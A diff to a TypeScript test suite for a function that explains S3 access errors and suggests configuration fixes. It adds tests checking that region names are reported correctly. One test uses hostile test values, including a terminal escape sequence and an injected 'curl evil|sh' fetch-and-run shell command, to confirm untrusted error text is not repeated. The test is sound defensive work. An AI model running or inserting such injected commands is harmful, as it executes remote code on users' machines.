@@ -76,7 +76,8 @@ describe('a bucket', () => {
 });
 
 describe("S3's refusal of a first question", () => {
-  const place = { subject: SUBJECT, bucket: BUCKET, region: 'us-east-1' };
+  const place = { subject: SUBJECT, region: 'us-east-1' };
+  const asker = { bucket: BUCKET, s3api: (command: string) => `aws s3api ${command}` };
   const said = (status: number, code: string, more: Partial<Said> = {}): Said => ({
     status,
     code,
@@ -84,7 +85,7 @@ describe("S3's refusal of a first question", () => {
     body: '',
     ...more,
   });
-  const check = (answer: Said) => whyNotReached(answer, place)?.check;
+  const check = (answer: Said) => whyNotReached(answer, asker, place)?.check;
 
   for (const [code, status, expected] of [
     ['NoSuchBucket', 404, 'bucket.exists'],
@@ -108,8 +109,23 @@ describe("S3's refusal of a first question", () => {
     assert.equal(check(here), undefined);
   });
 
+  it('names the setting of the target', () => {
+    const elsewhere = said(301, 'PermanentRedirect', { headers: { 'x-amz-bucket-region': 'eu-west-1' } });
+    const remedy = whyNotReached(elsewhere, asker, { ...place, target: 'archive' })?.remedy ?? '';
+    assert.match(remedy, /`s3\.targets\.archive\.region` to eu-west-1/);
+  });
+
+  it('repeats no region that is none', () => {
+    for (const region of ['\u001b]0;PWNED\u0007', 'x; curl evil|sh', 'a'.repeat(33)]) {
+      const body = `<Error><Region>${region}</Region></Error>`;
+      const finding = whyNotReached(said(400, 'AuthorizationHeaderMalformed', { body }), asker, place);
+      assert.equal(finding?.check, 'bucket.region');
+      assert.ok(!JSON.stringify(finding).includes(JSON.stringify(region).slice(1, -1)), region);
+    }
+  });
+
   it('repeats no code that is more than a word', () => {
-    const finding = whyNotReached(said(500, 'x y\n<secret>'), place);
+    const finding = whyNotReached(said(500, 'x y\n<secret>'), asker, place);
     assert.ok(!finding?.found.includes('secret'));
   });
 });
